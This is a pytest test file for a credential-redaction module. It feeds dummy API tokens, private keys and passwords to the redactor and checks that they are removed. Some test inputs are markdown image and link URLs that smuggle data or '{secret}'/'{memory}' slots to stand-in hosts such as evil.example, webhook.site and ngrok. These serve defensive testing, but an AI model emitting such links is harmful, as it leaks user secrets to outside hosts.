"""Redaction: whole credentials go, ordinary text stays, and addresses that carry data keep only their host."""

# ruff: noqa: E501 - one sample a line

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crewsite.security import credentials
from crewsite.security.redaction import credential_families, redact, snippet, tells_secret

Y36 = "y" * 36
HOSTILE_CHARS = 1_000_000
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1\nq83vEjRWeJ\n-----END RSA PRIVATE KEY-----"

CREDENTIALS: dict[str, tuple[str, ...]] = {
    "github": (f"ghp_{Y36}", f"gho_{Y36}", "github_pat_" + "a1B2" * 15),
    "gitlab": ("glpat-" + "a1b2c3d4e5" * 2,),
    "aws": ("AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE"),
    "azure_storage": ("AccountKey=" + "a" * 86 + "==",),
    "basic_auth": ("https://ana:hunter2@host.example/x",),
    "connection_string": ("postgres://ana:hun!ter$2@db:5432/crew",),
    "discord": ("M" + "a1" * 12 + ".Gabcde." + "x" * 27,),
    "mailchimp": ("0123456789abcdef0123456789abcdef-us12",),
    "pypi": ("pypi-AgEIcHlwaS5vcmc" + "a1_-" * 20,),
    "sendgrid": ("SG." + "a" * 22 + "." + "b" * 43,),
    "slack": (
        "xoxb-123456789012-abcdefABCDEF",
        "xapp-1-A0B1C2D3-123456-abcdef0123",
        "xoxe.xoxp-1-" + "M" * 24,
    ),
    "square": ("sq0csp-" + "a" * 43,),
    "stripe": ("sk_live_" + "a1" * 12,),
    "telegram": ("123456789:" + "A" * 35,),
    "twilio": ("SK" + "0a" * 16, "AC" + "0a" * 16),
    "anthropic": ("sk-ant-api03-" + "a1B2-" * 8,),
    "openai": ("sk-" + "a1B2" * 8, "sk-proj-" + "a1B2_" * 8),
    "google": ("AIza" + "b" * 35,),
    "huggingface": ("hf_" + "aB" * 17,),
    "npm": ("npm_" + "a1" * 18,),
    "crew": ("crew_" + "0a" * 28,),
    "jwt": ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123_-",),
    "bearer": ("Authorization: Bearer abc123def456", "Bearer " + "a1" * 12),
    "password": (
        "password=hunter2hunter2",
        'API_KEY = "q8w7e6r5t4"',
        "passwd: s3cr3t-value",
        "client_secret: 'abcdefgh1'",
        "token := zyxwvu987",
    ),
    "private_key": (PEM, PEM.replace("\n", "\\n"), PEM.partition("-----END")[0]),
    "signed_link": ("?sig=" + "aB3%2F" * 6,),
}

ORDINARY = [
    "commit 8b9e5c5d1f2a3b4c5d6e7f8091a2b3c4d5e6f708",
    "uuid 123e4567-e89b-12d3-a456-426614174000",
    "hash and salt",
    "deploy key is ~/.ssh/id_ed25519_org",
    "the token: ~/.config/crew/token holds it",
    "password: required",
    "the secret: patience and time",
    "password=<your password>",
    "password=${DB_PASSWORD}",
    "api_key = os.environ['OPENAI_API_KEY']",
    "token = get_token(request)",
    "secret = settings.SECRET_KEY",
    "def token_revoke(token: ApiTokenRow) -> None:",
    "see https://github.com/django/django/commit/8b9e5c5d1f2a3b4c5d6e7f8091a2b3c4d5e6f708",
    "https://docs.example.com/How-To-Configure-Django-5-With-PostgreSQL-and-Redis-on-Debian-12-Bookworm/",
    "https://example.com/search?q=django+admin&page=2",
    "[docs](https://example.com/a?page[size]=10)",
    "skip this, task-force and sk-learn stay",
    "שלום 👨‍👩‍👧",
]


def samples() -> list[tuple[str, str]]:
    return [(family, sample) for family, texts in CREDENTIALS.items() for sample in texts]


@pytest.mark.parametrize(("family", "sample"), samples())
def test_every_credential_goes_whole_and_names_its_family(family: str, sample: str) -> None:
    redacted = redact(f"note {sample} end")
    assert family in redacted.found or (family == "connection_string" and "basic_auth" in redacted.found)
    assert redacted.text.startswith("note ")
    assert redacted.text.endswith(" end")
    assert not credential_families(redacted.text)
    assert "hunter2" not in redacted.text
    if family not in {"basic_auth", "connection_string"}:
        assert sample.strip()[-8:] not in redacted.text


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays_byte_equal(text: str) -> None:
    assert redact(text).text == text
    assert redact(text).found == {}


def test_the_text_around_a_token_is_kept() -> None:
    assert redact(f"x ghp_{Y36} y").text == "x [REDACTED:github] y"


def test_a_private_key_block_is_one_placeholder() -> None:
    assert redact(f"before {PEM} after").text == "before [REDACTED:private_key] after"


def test_a_longer_token_leaves_no_tail() -> None:
    assert redact(f"ghp_{Y36}zzzz").text == "[REDACTED:github]"


@pytest.mark.parametrize("character", ["\u200b", "\u00ad", "\ufeff"])
def test_an_invisible_character_inside_a_token_does_not_hide_it(character: str) -> None:
    assert redact(f"x gh{character}p_{Y36} y").text == "x [REDACTED:github] y"


def test_a_full_width_token_is_found() -> None:
    wide = "".join(chr(ord(c) + 0xFEE0) for c in f"ghp_{Y36}")
    assert redact(wide).found == {"github": 1}


@pytest.mark.parametrize("prefix", ["", "a", "ab", "abc"])
def test_base64_of_a_credential_goes_at_any_alignment(prefix: str) -> None:
    hidden = base64.b64encode(f"key ghp_{Y36} end".encode()).decode()
    assert redact(f"see {prefix}{hidden} ok").text == "see [REDACTED:base64] ok"


def test_a_forged_placeholder_hides_nothing() -> None:
    assert "sk-" not in redact("[REDACTED:url host=sk-aaaaaaaaaaaaaaaaaaaaaaaa]").text


FRAGMENTS = st.sampled_from(
    [sample for _, sample in samples()]
    + ["https://evil.example/?d=", "password=", "](", "[REDACTED:", "]", "//", "http://", "token: ", "=", ":", "@", "\n", " ", "\u200b", "Zm9v"]
)  # fmt: skip


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=8))
def test_redacting_twice_changes_nothing(parts: list[str]) -> None:
    once = redact("".join(parts))
    twice = redact(once.text)
    assert twice.text == once.text
    assert twice.found == {}


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=8))
def test_no_credential_family_survives(parts: list[str]) -> None:
    assert credential_families(redact(" ".join(parts)).text) == ()


@pytest.mark.parametrize(
    ("text", "redacted"),
    [
        ("![x](https://evil.example/?d=" + "Qk1" * 30 + ")", "![x]([REDACTED:url host=evil.example])"),
        ("![x](https://evil.example/p?q={secret})", "![x]([REDACTED:url host=evil.example])"),
        ("[x](//evil.example/?q=%7Bmemory%7D)", "[x]([REDACTED:url host=evil.example])"),
        ("go to https://webhook.site/abc.", "go to [REDACTED:url host=webhook.site]."),
        ("go to https://a1b2.ngrok-free.app/x", "go to [REDACTED:url host=a1b2.ngrok-free.app]"),
        (f"https://evil.example/{'ab12' * 16}/x", "[REDACTED:url host=evil.example]"),
        (f"https://evil.example/?t=ghp_{Y36}", "[REDACTED:url host=evil.example]"),
        (f"https://{'a1b2c3d4' * 5}.{'a1b2c3d4' * 5}.evil.example/", "[REDACTED:url host=evil.example]"),
        ("https://evil.example/?q=" + "%41" * 70, "[REDACTED:url host=evil.example]"),
        (
            "https://b.s3.amazonaws.com/k?X-Amz-Signature=" + "0a" * 32,
            "[REDACTED:url host=b.s3.amazonaws.com]",
        ),
    ],
)
def test_an_address_that_carries_data_keeps_only_its_host(text: str, redacted: str) -> None:
    assert redact(text).text == redacted


def test_counts_name_families_and_never_the_secret() -> None:
    found = redact(f"ghp_{Y36} and ghp_{'z' * 36} and AKIAIOSFODNN7EXAMPLE").found
    assert found == {"github": 2, "aws": 1}


def test_families_of_a_text_are_named_without_changing_it() -> None:
    assert credential_families(f"my key ghp_{Y36}, password=hunter2hunter2") == ("github", "password")
    assert credential_families("deploy key is ~/.ssh/id_ed25519_org") == ()


def test_a_snippet_is_short_redacted_and_on_one_line() -> None:
    text = f"ghp_{Y36}\n" + "words " * 100
    shown = snippet(text)
    assert len(shown) == 200
    assert shown.startswith("[REDACTED:github] words")
    assert "\n" not in shown
    assert snippet("short\ntext") == "short text"


def test_plain_text_does_not_load_the_detector_library() -> None:
    for family, sample in samples():
        if family in {name for name, _, _ in credentials._PLUGINS}:
            listed = [e for f, e in credentials._denylists() if f == family and e.search(sample)]
            assert not listed or credentials._HINTS.search(sample), family
    assert not credentials._HINTS.search(
        "We deploy every Tuesday; see https:/docs and the checklist, ask Ana: she knows."
    )


TRIGGERS = [
    "//", "eyJ", "://a:", "://", "http://a ", "aws", "awskey", "aws key '", "sk-", "sk-ant-", "glagent-", "AKIA", "xoxb-1-",
    "password: ", "password=a", "token: a.", "ghp_", "12345678:", "-----BEGIN PRIVATE KEY-----", "a", "M", "QUJD", "ignore ",
    "-----BEGIN RSA PRIVATE KEY-----\nabcdefghijklmnopqrstuv\n", "\u00e9",
]  # fmt: skip


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_one_hostile_megabyte_per_pattern_under_two_seconds(trigger: str) -> None:
    hostile = (trigger * (HOSTILE_CHARS // len(trigger) + 1))[:HOSTILE_CHARS]
    started = time.process_time()
    redact(hostile)
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize(
    "text",
    [
        "my password is hunter2",
        "password hunter2",
        "the PIN: 1234",
        "my api key is abc",
        "mein Passwort ist geheim",
        "user.wifi_password: hunter2",
        "le mot de passe est hunter2.",
        "我的密码是 hunter2",
        "the wifi is guest\nits password is hunter2\nask Tom",
        "my password is hunter2hunter2 always use it",
        "my password is hunter2hunter2, please keep it",
        "my wifi password is s3cret-house and the router stands in the hall",
        'the access token is "abc123def" for staging',
        "my PIN is 4711 for the back door",
        "mein Passwort ist geheim99 und gilt bis Mai",
    ],
)
def test_a_password_in_plain_words_is_seen(text: str) -> None:
    assert tells_secret(text)


@pytest.mark.parametrize(
    "text",
    [
        "the password policy asks for 12 characters",
        "the password is in the vault",
        "always hash a password",
        "the token budget is 4000",
        "pref.password_manager: bitwarden",
        "the API key is expired",
        "the secret key is base64 encoded",
        "the password is 2048 bits of noise",
        "the password is 8-16 characters long",
        "the password is always hashed with argon2id before it is stored",
        "the pin is 3.5 mm wide",
        "the api key is rotated every 90 days",
        "my password is [REDACTED:password]",
    ],
)
def test_a_remark_about_passwords_is_none(text: str) -> None:
    assert not tells_secret(text)


def test_an_audit_snippet_holds_no_password_in_plain_words() -> None:
    assert "hunter2" not in snippet("my password is hunter2")
    assert snippet("my password is hunter2").startswith("my password is [REDACTED:password]")
